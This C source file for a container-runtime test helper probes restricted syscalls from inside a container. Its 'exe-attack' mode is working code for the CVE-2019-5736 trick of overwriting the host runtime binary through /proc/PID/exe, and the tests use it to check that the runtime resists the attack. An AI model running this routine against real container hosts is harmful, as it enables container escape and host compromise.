/* probe: a tiny static program the integration tests run inside containers, to make
 * syscalls busybox cannot (clone3, keyctl, personality...) and to play the attacker in the
 * security tests. Built by the tests with the host's cc (-static); prints one line per check.
 *
 *   probe sys NAME...        try each named syscall, print "NAME=0" or "NAME=ERRNAME"
 *   probe exe-attack SECS     for SECS seconds, find other processes' /proc/PID/exe and try
 *                             to open them for writing (directly, and O_PATH then reopen via
 *                             /proc/self/fd); prints "seen PID LINK", "denied PID COMM"
 *                             (exe link refused) and "writable PID HOW" (the attack worked)
 *   probe cwd                 print the cwd as the kernel reports it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static long try_sys(const char *n) {
    if (!strcmp(n, "unshare-user")) return syscall(SYS_unshare, CLONE_NEWUSER);
    if (!strcmp(n, "unshare-mnt")) return syscall(SYS_unshare, CLONE_NEWNS);
    if (!strcmp(n, "unshare-uts")) return syscall(SYS_unshare, CLONE_NEWUTS);
    if (!strcmp(n, "mount")) return mount("none", "/tmp", "tmpfs", 0, NULL);
    if (!strcmp(n, "keyctl")) return syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
    if (!strcmp(n, "add_key")) return syscall(SYS_add_key, "user", "probe", "v", 1, -3);
    if (!strcmp(n, "personality-query")) return personality(0xffffffff) < 0 ? -1 : 0;
    if (!strcmp(n, "personality-linux32")) return personality(PER_LINUX32) < 0 ? -1 : 0;
    if (!strcmp(n, "personality-weird")) return personality(0x0042) < 0 ? -1 : 0;
    if (!strcmp(n, "clone3")) return syscall(SYS_clone3, NULL, 0);
    if (!strcmp(n, "chroot")) return chroot("/");
    if (!strcmp(n, "setns")) return syscall(SYS_setns, -1, 0);
    if (!strcmp(n, "bpf")) return syscall(SYS_bpf, 0, NULL, 0);
    if (!strcmp(n, "perf_event_open")) return syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0);
    if (!strcmp(n, "userfaultfd")) return syscall(SYS_userfaultfd, 0);
    if (!strcmp(n, "io_uring_setup")) return syscall(SYS_io_uring_setup, 0, NULL);
    /* Directories are removed again so that reruns on the same rootfs see the same. */
    if (!strcmp(n, "mkdir")) {
        long r = syscall(SYS_mkdir, "/tmp/probe-dir", 0755);
        if (r == 0) rmdir("/tmp/probe-dir");
        return r;
    }
    if (!strcmp(n, "mkdirat")) {
        long r = syscall(SYS_mkdirat, AT_FDCWD, "/tmp/probe-dirat", 0755);
        if (r == 0) rmdir("/tmp/probe-dirat");
        return r;
    }
    if (!strcmp(n, "chmod-plain") || !strcmp(n, "chmod-suid")) {
        int fd = open("/tmp/probe-file", O_CREAT | O_WRONLY, 0644);
        if (fd >= 0) close(fd);
        return syscall(SYS_chmod, "/tmp/probe-file", n[6] == 's' ? 04755 : 0755);
    }
    if (!strcmp(n, "getpid")) return syscall(SYS_getpid) > 0 ? 0 : -1;
    fprintf(stderr, "probe: unknown check %s\n", n);
    exit(2);
}

static int sys_main(int argc, char **argv) {
    for (int i = 2; i < argc; i++) {
        errno = 0;
        long r = try_sys(argv[i]);
        if (r < 0)
            printf("%s=%s\n", argv[i], strerrorname_np(errno) ? strerrorname_np(errno) : "E?");
        else
            printf("%s=0\n", argv[i]);
        fflush(stdout);
    }
    return 0;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int exe_attack(double secs) {
    pid_t me = getpid();
    double end = now() + secs;
    while (now() < end) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me) continue;
            char path[64], link[512];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, link, sizeof link - 1);
            if (n < 0) {
                /* A non-dumpable process (a runtime child before its execve) refuses us:
                 * report it, and still try the attack below. */
                if (errno != EACCES) continue;
                char cpath[64], comm[64] = "?";
                snprintf(cpath, sizeof cpath, "/proc/%d/comm", pid);
                FILE *f = fopen(cpath, "r");
                if (f) {
                    if (fgets(comm, sizeof comm, f)) comm[strcspn(comm, "\n")] = 0;
                    fclose(f);
                }
                printf("denied %d %s\n", pid, comm);
            } else {
                link[n] = 0;
                if (strstr(link, "busybox") || strstr(link, "/probe")) continue;
                printf("seen %d %s\n", pid, link);
            }
            int fd = open(path, O_WRONLY);
            if (fd >= 0) {
                if (write(fd, "X", 1) == 1) printf("writable %d direct\n", pid);
                close(fd);
            }
            int p = open(path, O_PATH);
            if (p >= 0) {
                char re[64];
                snprintf(re, sizeof re, "/proc/self/fd/%d", p);
                /* The CVE-2019-5736 trick: hold the file, wait for the runtime to exit, then
                 * reopen it for writing. Retry a while to outlive the process. */
                for (int k = 0; k < 2000; k++) {
                    int w = open(re, O_WRONLY);
                    if (w >= 0) {
                        if (write(w, "X", 1) == 1) printf("writable %d reopen\n", pid);
                        close(w);
                        break;
                    }
                    if (errno != ETXTBSY) break;
                    usleep(1000);
                }
                close(p);
            }
            fflush(stdout);
        }
        closedir(d);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "sys")) return sys_main(argc, argv);
    if (argc >= 3 && !strcmp(argv[1], "exe-attack")) return exe_attack(atof(argv[2]));
    if (argc >= 2 && !strcmp(argv[1], "cwd")) {
        char buf[4096];
        if (!getcwd(buf, sizeof buf)) {
            printf("getcwd=%s\n", strerrorname_np(errno));
            return 1;
        }
        printf("%s\n", buf);
        return 0;
    }
    fprintf(stderr, "usage: probe sys NAME... | exe-attack SECS | cwd\n");
    return 2;
}
